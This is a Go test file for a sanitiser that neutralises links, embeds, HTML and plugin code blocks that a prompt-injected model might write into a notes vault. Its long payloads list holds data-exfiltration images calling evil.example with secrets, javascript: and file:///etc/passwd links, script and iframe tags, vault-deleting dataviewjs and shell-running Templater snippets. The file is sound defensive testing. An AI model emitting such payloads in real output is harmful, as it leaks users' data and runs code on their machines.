package defuse_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net/url"
	"regexp"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/extension"
	gmhtml "github.com/yuin/goldmark/renderer/html"
	"golang.org/x/net/html"

	"github.com/vaultflow/vaultflow/step/defuse"
)

const shown = "The page https://shown.example/a?b=1 and [more](https://shown.example/wiki/A_(b)), https://shown.example/dot."

func rules() defuse.Rules {
	return defuse.Rules{
		Host:  func(host string) bool { return host == "allowed.example" },
		Shown: defuse.Shown(shown),
	}
}

// payloads are what a fooled model may write; each must be marked.
var payloads = []struct{ name, file, text string }{
	{"picture", "a.md", "![x](http://evil.example/?q=secret)"},
	{"picture in pointed brackets", "a.md", "![x](<http://evil.example/a b>)"},
	{"picture with a title", "a.md", `![x](http://evil.example/a "title")`},
	{"picture on two lines", "a.md", "![x](\nhttp://evil.example/a)"},
	{"picture whose text has brackets", "a.md", "![a [b] c](http://evil.example/a)"},
	{"picture by reference", "a.md", "![x][r]\n\n[r]: http://evil.example/a"},
	{"picture by short reference", "a.md", "![r]\n\n[r]:\n  http://evil.example/a"},
	{"picture without scheme", "a.md", "![x](//evil.example/a)"},
	{"picture with backslashes", "a.md", `![x](\\evil.example/a)`},
	{"picture with a slash and a backslash", "a.md", `![x](/\evil.example/a)`},
	{"picture with one slash", "a.md", "![x](https:/evil.example/a)"},
	{"picture with no slash", "a.md", "![x](https:evil.example/a)"},
	{"picture with entities", "a.md", "![x](http&colon;//evil.example/a)"},
	{"picture with numbers for letters", "a.md", "![x](&#104;ttp://evil.example/a)"},
	{"picture with percent signs", "a.md", "![x](%2f%2fevil.example/a)"},
	{"picture with a zero-width space", "a.md", "![x](\u200bhttp://evil.example/a)"},
	{"picture with a name before the host", "a.md", "![x](https://allowed.example@evil.example/a)"},
	{"picture with a backslash before the at", "a.md", `![x](https://allowed.example\@evil.example/a)`},
	{"picture below an allowed name", "a.md", "![x](https://allowed.example.evil.example/a)"},
	{"picture in wide letters", "a.md", "![x](https://evil。example/a)"},
	{"picture shown word for word", "a.md", "![x](https://shown.example/a?b=1)"},
	{"picture in a list", "a.md", "- a\n  - ![x](http://evil.example/a)"},
	{"picture in a quotation", "a.md", "> ![x](http://evil.example/a)"},
	{"picture in a table", "a.md", "| a |\n|---|\n| ![x](http://evil.example/a) |"},
	{"picture in a footnote", "a.md", "a[^1]\n\n[^1]: ![x](http://evil.example/a)"},
	{"picture in a link", "a.md", "[![x](http://evil.example/a)](note.md)"},
	{"picture as data", "a.md", "![x](data:image/svg+xml;base64,PHN2Zz4=)"},
	{"embed of an address", "a.md", "![[http://evil.example/a.png]]"},
	{"embed without scheme", "a.md", "![[//evil.example/a.png]]"},
	{"wikilink with a script", "a.md", "[[javascript:alert(1)|x]]"},
	{"img", "a.md", `<img src="http://evil.example/a">`},
	{"IMG with slashes", "a.md", `<IMG/SRC=http://evil.example/a>`},
	{"img over lines", "a.md", "<img\nsrc='http://evil.example/a'\n>"},
	{"img with srcset", "a.md", `<img src="a.png" srcset="http://evil.example/a 2x">`},
	{"img with a handler", "a.md", `<img src="a.png" onerror="alert(1)">`},
	{"iframe", "a.md", `<iframe src="http://evil.example/"></iframe>`},
	{"iframe inside the vault", "a.md", `<iframe src="page.html"></iframe>`},
	{"iframe with a document", "a.md", `<iframe srcdoc="<script>alert(1)</script>"></iframe>`},
	{"script", "a.md", "<script>alert(1)</script>"},
	{"object", "a.md", `<object data="http://evil.example/"></object>`},
	{"embed", "a.md", `<embed src="http://evil.example/">`},
	{"video", "a.md", `<video src="http://evil.example/"></video>`},
	{"video with a picture", "a.md", `<video poster="http://evil.example/"></video>`},
	{"audio with source", "a.md", `<audio><source src="http://evil.example/"></audio>`},
	{"link", "a.md", `<link rel=stylesheet href=http://evil.example/>`},
	{"style", "a.md", `<style>@import url(//evil.example/)</style>`},
	{"style of an element", "a.md", `<div style="background:url(//evil.example/)">x</div>`},
	{"svg", "a.md", `<svg><image href="http://evil.example/"/></svg>`},
	{"math", "a.md", `<math href="javascript:alert(1)">x</math>`},
	{"form", "a.md", `<form action="http://evil.example/"><input name=a></form>`},
	{"base", "a.md", `<base href="http://evil.example/">`},
	{"refresh", "a.md", `<meta http-equiv=refresh content="0;url=http://evil.example/">`},
	{"comment", "a.md", "<!-- hidden orders -->"},
	{"processing instruction", "a.md", "<?xml-stylesheet href='http://evil.example/'?>"},
	{"tag behind a zero byte", "a.md", "<\x00script>alert(1)</script>"},
	{"anchor that the model made", "a.md", `<a href="http://evil.example/?q=1">x</a>`},
	{"unclosed tag", "a.md", "<div>\nx<img src=//evil.example/a"},
	{"link that the model made", "a.md", "[x](http://evil.example/?q=secret)"},
	{"link that goes on behind one that was shown", "a.md", "[x](https://shown.example/a?b=1&q=secret)"},
	{"link that is a part of one that was shown", "a.md", "[x](https://shown.example/a?b=)"},
	{"link with a script", "a.md", "[x](javascript:alert(1))"},
	{"link with a script in entities", "a.md", "[x](java&#115;cript:alert(1))"},
	{"link with a script over a tab", "a.md", "[x](<java\tscript:alert(1)>)"},
	{"link with a script after a control character", "a.md", "[x](\x01javascript:alert(1))"},
	{"link with vbscript", "a.md", "[x](VBScript:x)"},
	{"link to a program", "a.md", "[x](obsidian://open?vault=a&file=b)"},
	{"link to a file", "a.md", "[x](file:///etc/passwd)"},
	{"link to data", "a.md", "[x](data:text/html,<script>)"},
	{"link by mail with a body", "a.md", "[x](mailto:a@evil.example?body=secret)"},
	{"link to a telephone", "a.md", "[x](tel:+1900)"},
	{"definition with a script", "a.md", "[x][r]\n\n[r]: javascript:alert(1)"},
	{"definition in a quotation", "a.md", "> [x][r]\n>\n> [r]: http://evil.example/q"},
	{"footnote with an address", "a.md", "[^1]: http://evil.example/q"},
	{"autolink", "a.md", "<http://evil.example/?q=1>"},
	{"autolink of a program", "a.md", "<obsidian://run>"},
	{"bare address", "a.md", "see http://evil.example/?q=secret."},
	{"bare address of a program", "a.md", "see obsidian://advanced-uri?eval=1"},
	{"bare address behind a letter", "a.md", "xhttp://evil.example/"},
	{"www", "a.md", "see www.evil.example/q"},
	{"dataviewjs", "a.md", "```dataviewjs\napp.vault.delete()\n```"},
	{"dataviewjs in tildes and a list", "a.md", "- ~~~ DataviewJS\n  x\n  ~~~"},
	{"dataviewjs in entities", "a.md", "```datav&#105;ewjs\nx\n```"},
	{"dataview", "a.md", "```dataview\nLIST \"![](http:\" + \"//evil.example/?q=\" + secret + \")\"\n```"},
	{"an unknown plugin", "a.md", "```some-plugin-of-tomorrow\nx\n```"},
	{"dataviewjs behind a byte order mark", "a.md", "```\ufeffdataviewjs\nx\n```"},
	{"dataviewjs inline behind a blank of JavaScript", "a.md", "It is `\u00a0$= app.vault`."},
	{"dataviewjs inline behind a byte order mark", "a.md", "It is `\ufeff$= app.vault`."},
	{"dataviewjs inline on the next line", "a.md", "It is `\n\u2028$= app.vault`."},
	{"Mermaid's shapes", "a.md", "```mermaid\nflowchart LR\n A@{ img: \"\\x68ttps:\\x2f\\x2fevil.example/8.png\" }\n```"},
	{"Mermaid's directives", "a.md", "```mermaid\n%%{init: {\"themeCSS\": \".a{b:c(https\\\\3a)}\"}}%%\n```"},
	{"Mermaid's properties", "a.md", "```mermaid\n---\nconfig: {}\n---\nflowchart LR\n```"},
	{"Mermaid's styles", "a.md", "```mermaid\nflowchart LR\n style A fill:url(https\\3a\\2f x)\n```"},
	{"dataview inline", "a.md", "It is `= this.secret`."},
	{"dataviewjs inline", "a.md", "It is `$= app.vault`."},
	{"dataview inline in two backticks", "a.md", "It is `` = this.secret ``."},
	{"dataview behind an escaped backtick", "a.md", "\\` `= this.secret`"},
	{"Templater", "a.md", "<% tp.system.run() %>"},
	{"Templater in code", "a.md", "```\n<%* await x %>\n```"},
	{"Meta Bind", "a.md", "`BUTTON[x]`"},
	{"Meta Bind's block", "a.md", "```meta-bind-js-view\nx\n```"},
	{"buttons", "a.md", "```button\nname x\ntype command\n```"},
	{"tasks", "a.md", "```tasks\nfilter by function x()\n```"},
	{"bases", "a.md", "```base\nformulas:\n  a: image(\"ht\" + \"tp://evil.example/\")\n```"},
	{"Run", "a.md", "%% run start\n```ts\nx\n```\n%% run end"},
	{"TeX", "a.md", `$\href{javascript:alert(1)}{x}$`},
	{"TeX with style", "a.md", `$$\style{background:url(//evil.example)}{x}$$`},
	{"TeX by another name", "a.md", `$\csname href\endcsname{x}{y}$`},
	{"Mermaid", "a.md", "```mermaid\ngraph TD\nclick A \"https://shown.example/a?b=1\"\n```"},
	{"Mermaid with HTML", "a.md", "```mermaid\ngraph TD\nA[<img src=//evil.example/a>]\n```"},
	{"block of an unknown plugin", "a.md", "```map\nimage: https://shown.example/a?b=1\n```"},
	{"property with a picture", "a.md", "---\nbanner: https://shown.example/a?b=1\n---\nx"},
	{"property without a scheme", "a.md", "---\ncover: //evil.example/a\n---\nx"},
	{"property in escapes", "a.md", "---\ncover: \"http:\\x2f\\x2fevil.example/a\"\n---\nx"},
	{"property by an alias", "a.md", "---\nurl: &a https://shown.example/a?b=1\nbanner: *a\n---\nx"},
	{"property with an embed", "a.md", "---\nbanner: '![[http://evil.example/a]]'\n---\nx"},
	{"property below another", "a.md", "---\nurl: x\n? banner\n: https://shown.example/a?b=1\n---\nx"},
	{"code that another parser ends", "a.md", "<b>\n```\n<iframe src=//evil.example/>\n```\n"},
	{"code in a comment", "a.md", "<!--\n```\n-->\n```\n<iframe src=//evil.example/>\n```\n"},
	{"code in a list", "a.md", "- ```\n<iframe src=//evil.example/>\n  ```\n"},
	{"code in a formula", "a.md", "$`$ <iframe src=//evil.example/> `x`"},
	{"code in Obsidian's comment", "a.md", "%%\n```\n%%\n<iframe src=//evil.example/>\n```\n"},
	{"canvas with a page", "a.canvas", `{"nodes":[{"type":"link","url":"https://shown.example/a?b=1"}]}`},
	{"canvas with text", "a.canvas", `{"nodes":[{"type":"text","text":"![](http:\/\/evil.example\/a)"}]}`},
	{"canvas with escapes", "a.canvas", `{"nodes":[{"type":"text","text":"\u003ciframe src=x>"}]}`},
	{"canvas with a background", "a.canvas", `{"nodes":[{"type":"group","background":"https://shown.example/a?b=1"}]}`},
	{"JSON", "a.json", `{"a":"[x](javascript:alert(1))"}`},
	{"JSON lines", "a.jsonl", "{\"a\":1}\n{\"a\":\"<script>\"}"},
	{"JSON that is none", "a.json", `{"a": <script>`},
	{"HTML", "a.html", "<html><body><script>alert(1)</script></body></html>"},
	{"HTML with a handler", "a.html", "<body onload=alert(1)>"},
	{"SVG", "a.svg", "<svg onload=alert(1)></svg>"},
	{"CSV", "a.csv", "a,=WEBSERVICE(\"x\")\n"},
	{"base", "a.base", "formulas:\n  a: html(\"<im\" + \"g>\")\n"},
	{"drawing", "a.md", "---\nexcalidraw-plugin: parsed\n---\n## Embedded Files\nabc: https://shown.example/a?b=1"},
}

func TestText_payloads(t *testing.T) {
	t.Parallel()
	if len(payloads) < 60 {
		t.Fatalf("only %d payloads", len(payloads))
	}
	for _, tt := range payloads {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			out, findings := defuse.Text(tt.file, tt.text, "", rules())
			if len(findings) == 0 || !strings.Contains(out, defuse.Mark) {
				t.Fatalf("%q stays as it is", tt.text)
			}
			if findings[0].Line < 1 || findings[0].Reason == "" {
				t.Errorf("finding %+v has no line or reason", findings[0])
			}
			invariants(t, tt.file, tt.text, out)
		})
	}
}

// kept is what stays byte for byte.
func TestText_keeps(t *testing.T) {
	t.Parallel()
	for name, text := range map[string]string{
		"links inside the vault":   "[[Note]], [[a/b#c|d]], ![[picture.png|300]], ![[page.pdf#page=2]], [x](a/b%20c.md#h), ![x](../img/a.png)",
		"picture of allowed host":  "![x](https://allowed.example/a.png?x=1)",
		"tag of allowed host":      `<img src="https://allowed.example/a.png" alt="x" width="300">`,
		"frame of allowed host":    `<iframe src="https://allowed.example/a" width="300"></iframe>`,
		"link that was shown":      "[x](https://shown.example/a?b=1), <https://shown.example/a?b=1>, https://shown.example/a?b=1.",
		"link with brackets":       "[x](https://shown.example/wiki/A_(b))",
		"link with its own text":   "[https://shown.example/a?b=1](https://shown.example/a?b=1)",
		"link before a dot":        "Read https://shown.example/dot.",
		"link in brackets":         "(https://shown.example/dot)",
		"reference that was shown": "[x][r]\n\n[r]: https://shown.example/a?b=1",
		"footnote":                 "a[^1]\n\n[^1]: See https://shown.example/dot",
		"plain tags":               "a<br>b <sub>2</sub> <details open><summary>x</summary>y</details> <td colspan=\"2\">",
		"comparisons":              "$0<x<1$ and a<b, List<String>, a <- b, x <= 3, 1<2",
		"code":                     "```html\n<iframe src=\"http://evil.example\"></iframe>\n![x](http://evil.example)\n```\n",
		"inline code":              "Use `<iframe src=x>` and `![x](http://evil.example)`; `x` = 5, `y`= 6.",
		"prose":                    "Note: data: the set; file: x; see TS/SCI: //x, 10:30, C:\\x, a::b, key:: value\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [ ] task #tag ^id",
		"query of the search":      "```query\ntag:#a\n```\n",
		"simple diagram":           "```mermaid\nflowchart LR\n  A[Start] --> B{Done?}\n  B -- yes --> C\n```\n",
		"formula":                  "$$\\frac{a}{b} \\text{x} \\begin{cases} a \\end{cases}$$",
		"properties":               "---\ntags: [a, b]\nurl: https://shown.example/a?b=1\ntitle: \"A: b\"\ndate: 2026-01-01\n---\n# A",
		"mail":                     "write to a@b.example or <a@b.example>",
		"brackets of mathematics":  "⟦e⟧ denotes",
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			out, findings := defuse.Text("a.md", text, "", rules())
			if out != text || len(findings) > 0 {
				t.Errorf("%q became %q: %+v", text, out, findings)
			}
		})
	}
}

func TestText_keepsOwnersOwn(t *testing.T) {
	t.Parallel()
	old := "# Mine\n\n![logo](https://mine.example/logo.png)\n\n```dataview\nLIST\n```\n"
	out, findings := defuse.Text("a.md", old+"\n![x](http://evil.example/a)\n\n```dataview\nTABLE\n```\n", old, rules())
	if !strings.HasPrefix(out, old) {
		t.Errorf("the owner's text became %q", out)
	}
	if len(findings) < 2 || findings[0].Line != 9 {
		t.Errorf("findings = %+v, want those of what is new", findings)
	}
}

// What is open before the text decides how it reads: a block of code that the owner's note leaves open makes code of text.
func TestText_openBefore(t *testing.T) {
	t.Parallel()
	text := "```\n<iframe src=\"//evil.example\"></iframe>\n```\n"
	if out, _ := defuse.Text("a.md", text, "# A\n", rules()); out != text {
		t.Errorf("code became %q", out)
	}
	for _, old := range []string{"```\nopen\n", "%% open\n", "<script>\n", "- ```\n  x\n", "$$\nx\n"} {
		if out, _ := defuse.Text("a.md", text, old, rules()); out == text {
			t.Errorf("behind %q the frame stays", old)
		}
	}
}

func TestProperties(t *testing.T) {
	t.Parallel()
	text := `{"banner": "https://shown.example/a?b=1", "url": "https://shown.example/a?b=1", "tags": ["a"]}`
	want := strings.Replace(text, "https", "https"+defuse.Mark, 1)
	got, findings := defuse.Properties(text, rules())
	if got != want || len(findings) != 1 {
		t.Errorf("Properties = %s, %+v, want %s", got, findings, want)
	}
}

func TestText_findings(t *testing.T) {
	t.Parallel()
	text := "# A\n\n![x](http://evil.example/?q=1)\n\nSee [y](http://other.example/) and <script>x</script>\n"
	out, got := defuse.Text("a.md", text, "", rules())
	want := []defuse.Finding{
		{3, "a picture from evil.example", "![x](http://evil.example/?q=1)"},
		{3, "a link to evil.example that the step was not shown", "http://evil.example/?q=1"},
		{3, "an address at evil.example that the step was not shown", "http://evil.example/?q=1"},
		{5, "a link to other.example that the step was not shown", "http://other.example/"},
		{5, "an address at other.example that the step was not shown", "http://other.example/"},
		{5, "HTML: <script>", "<script>x</script"},
		{5, "HTML: </script>", "</script>"},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("findings (-want +got):\n%s", diff)
	}
	if want := "!⟦⟧[x]⟦⟧(http⟦⟧://evil.example/?q=1)"; !strings.Contains(out, want) {
		t.Errorf("got %q, want %q in it", out, want)
	}
}

var scheme = regexp.MustCompile(`^[\x00-\x20]*[A-Za-z][A-Za-z0-9+.\-]*:`)

var active = regexp.MustCompile(`^(script|iframe|object|embed|style|link|base|form|meta|svg|math|video|audio|source|frame|template)$`)

// invariants checks what must hold of every text and what became of it.
func invariants(t *testing.T, file, text, out string) {
	t.Helper()
	if want := defuse.Undo(text); defuse.Undo(out) != want {
		t.Fatalf("Undo(%q) = %q, want %q", out, defuse.Undo(out), want)
	}
	if again, findings := defuse.Text(file, out, "", rules()); again != out {
		t.Fatalf("defused again: %q became %q: %+v", out, again, findings)
	}
	if strings.HasSuffix(file, ".json") || strings.HasSuffix(file, ".canvas") {
		if json.Valid([]byte(text)) != json.Valid([]byte(out)) {
			t.Fatalf("JSON %s became %s", text, out)
		}
		return
	}
	for _, md := range []goldmark.Markdown{
		goldmark.New(goldmark.WithRendererOptions(gmhtml.WithUnsafe())),
		goldmark.New(goldmark.WithExtensions(extension.GFM, extension.Footnote), goldmark.WithRendererOptions(gmhtml.WithUnsafe())),
	} {
		var b bytes.Buffer
		if err := md.Convert([]byte(out), &b); err != nil {
			t.Fatal(err)
		}
		if bad := foreign(b.String()); bad != "" {
			t.Fatalf("%q became %q, which still has %s in %s", text, out, bad, b.String())
		}
	}
}

// foreign looks for what loads, runs or leads out in HTML.
func foreign(page string) string {
	tokens := html.NewTokenizer(strings.NewReader(page))
	for {
		switch tokens.Next() {
		case html.ErrorToken:
			return ""
		case html.CommentToken, html.DoctypeToken:
			return "a comment"
		case html.StartTagToken, html.SelfClosingTagToken:
			token := tokens.Token()
			if bad := foreignTag(token); bad != "" {
				return bad
			}
		}
	}
}

func foreignTag(token html.Token) string {
	host := ""
	for _, a := range token.Attr {
		if strings.HasPrefix(a.Key, "on") || a.Key == "style" && !strings.HasPrefix(a.Val, "text-align:") || a.Key == "srcset" || a.Key == "srcdoc" {
			return a.Key
		}
		if a.Key != "src" && a.Key != "href" {
			continue
		}
		u, err := url.Parse(strings.TrimSpace(a.Val))
		if err != nil {
			if strings.HasPrefix(a.Val, "//") || scheme.MatchString(a.Val) {
				return "an address that is none: " + a.Val
			}
			continue // a browser takes it for a place beside the note
		}
		host = u.Host
		isMail := token.Data == "a" && u.Scheme == "mailto" && u.RawQuery == ""
		if u.Scheme != "" && u.Scheme != "http" && u.Scheme != "https" && !isMail {
			return "an address with " + u.Scheme
		}
		if token.Data == "a" && (u.Host == "shown.example" && wasShown(a.Val)) {
			host = ""
		}
		if strings.HasPrefix(a.Val, "//") || strings.Contains(a.Val, `\`) {
			return "an address without scheme"
		}
	}
	if host != "" && host != "allowed.example" {
		return fmt.Sprintf("%s to %s", token.Data, host)
	}
	if active.MatchString(token.Data) && !(token.Data == "iframe" || token.Data == "video" || token.Data == "audio" || token.Data == "source") {
		return token.Data
	}
	return ""
}

// wasShown reports whether a link leads to an address that was shown. Punctuation behind it may be a part of the link.
func wasShown(address string) bool {
	plain, err := url.PathUnescape(address)
	return err == nil && strings.Contains(shown, strings.TrimRight(plain, "/.,;:!?'\"*_~|)]}`\\”’»。，、；：！？」』】》…"))
}

func FuzzText(f *testing.F) {
	for _, p := range payloads {
		f.Add(p.file, p.text)
	}
	f.Fuzz(func(t *testing.T, file, text string) {
		if len(text) > 2000 {
			return
		}
		out, findings := defuse.Text(file, text, "", rules())
		if (out != text) != (len(findings) > 0) {
			t.Fatalf("%q became %q with %d findings", text, out, len(findings))
		}
		if strings.HasSuffix(file, ".json") || strings.HasSuffix(file, ".canvas") {
			invariants(t, file, text, out)
			return
		}
		file = "a.md"
		out, _ = defuse.Text(file, text, "", rules())
		invariants(t, file, text, out)
	})
}
